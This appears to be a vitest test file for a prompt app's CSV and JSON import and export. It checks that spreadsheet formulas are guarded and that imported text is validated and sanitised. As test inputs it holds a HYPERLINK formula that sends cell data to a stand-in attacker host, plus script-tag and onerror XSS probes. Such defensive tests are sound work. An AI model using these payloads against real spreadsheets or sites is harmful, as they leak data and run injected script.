import { describe, expect, it } from 'vitest';
import { csvHeader, toCsvLine } from '../csv.js';
import { duplicateKey, validateImportRow } from './import-row.js';
import { readPromptNestCsv } from './promptnest-csv.js';
import { readPromptNestJson } from './promptnest-json.js';

describe('PromptNest CSV', () => {
  it('reads back what the export writes, formula guards removed', () => {
    const line = toCsvLine({ title: '=SUM(A1)', description: 'd, "quoted"', content: '-list\nline', tags: ['a', 'b'], isTemplate: true, createdAt: '2026-10-01T09:00:00.000Z', updatedAt: '2026-10-02T09:00:00.000Z' });
    const [row] = readPromptNestCsv(`\uFEFF${csvHeader()}\r\n${line}\r\n`);
    expect(row).toEqual({ title: '=SUM(A1)', description: 'd, "quoted"', content: '-list\nline', tags: ['a', 'b'], isTemplate: true, createdAt: '2026-10-01T09:00:00.000Z', updatedAt: '2026-10-02T09:00:00.000Z' });
  });
  it('reads back formulas guarded inside a cell, and apostrophes the user wrote', () => {
    const content = "x;=1+1, then,@a and ;'=kept'";
    const line = toCsvLine({ title: "'=quoted", description: 'a,-b', content, tags: [], isTemplate: false, createdAt: '2026-10-01T09:00:00.000Z', updatedAt: '2026-10-01T09:00:00.000Z' });
    expect(line).toContain(`"x;'=1+1, then,'@a and ;''=kept'"`);
    const [row] = readPromptNestCsv(`\uFEFF${csvHeader()}\r\n${line}\r\n`);
    expect(row).toMatchObject({ title: "'=quoted", description: 'a,-b', content, tags: [], isTemplate: false });
  });
  it('reads back formulas guarded after a line break or a tab', () => {
    const content = "Summary\n=HYPERLINK(\"https://evil.example/?\"&A1)\r\n+1\tx\t@a\n'-kept";
    const line = toCsvLine({ title: 'T', description: '', content, tags: [], isTemplate: false, createdAt: '2026-10-01T09:00:00.000Z', updatedAt: '2026-10-01T09:00:00.000Z' });
    expect(line).toContain(`"Summary\n'=HYPERLINK(`);
    const [row] = readPromptNestCsv(`\uFEFF${csvHeader()}\r\n${line}\r\n`);
    expect(row).toMatchObject({ content });
  });
});

describe('PromptNest JSON', () => {
  it('reads every field and the versions', () => {
    const [row] = readPromptNestJson({ formatVersion: 1, prompts: [{ title: 'T', content: 'C', isFavorite: true, versions: [{ title: 'T0', description: '', content: 'C0', tags: [], isTemplate: false, createdAt: '2026-01-01T00:00:00.000Z' }] }] });
    expect(validateImportRow(row ?? { title: '', content: '' })).toMatchObject({ ok: true, row: { title: 'T', isFavorite: true, versions: [{ title: 'T0' }] } });
  });
  it('refuses a file without its list of prompts', () => {
    expect(() => readPromptNestJson({ formatVersion: 1 })).toThrow('This PromptNest file has no list of prompts.');
  });
});

describe('validating an imported row (the editor\'s schema)', () => {
  const check = (row: Record<string, unknown>) => validateImportRow({ title: 'T', content: 'C', ...row });
  it('answers with the spec\'s messages', () => {
    expect(check({ content: 'Run <script>alert(1)</script>' })).toEqual({ ok: false, message: 'Text contains invalid content' });
    expect(check({ title: '' })).toEqual({ ok: false, message: 'Text is required' });
    expect(check({ title: undefined })).toEqual({ ok: false, message: 'Text is required' });
    expect(check({ title: 'x'.repeat(201) })).toEqual({ ok: false, message: 'Text must be 200 characters or less' });
    expect(check({ tags: Array.from({ length: 11 }, (_, i) => `t${i}`) })).toEqual({ ok: false, message: 'Maximum 10 tags allowed' });
    expect(check({ tags: ['<b>'] })).toEqual({ ok: false, message: 'Tag contains invalid characters' });
    expect(check({ tags: 'a' })).toEqual({ ok: false, message: 'Tags must be an array' });
    expect(check({ createdAt: 'yesterday' })).toEqual({ ok: false, message: 'Dates must be ISO 8601 date-times' });
    expect(check({ versions: [{ title: 'x' }] })).toMatchObject({ ok: false });
  });
  it('sanitises like the editor and fills the defaults', () => {
    expect(check({ title: '  Padded  ', description: null, content: 'See <img src=x onerror=alert(1)>' })).toEqual({
      ok: true,
      row: { title: 'Padded', description: '', content: 'See <img src=x>', tags: [], isTemplate: false, isFavorite: false, versions: [] },
    });
  });
  it('keys duplicates on title and content', () => {
    expect(duplicateKey({ title: 'a', content: 'b' })).not.toBe(duplicateKey({ title: 'ab', content: '' }));
  });
});
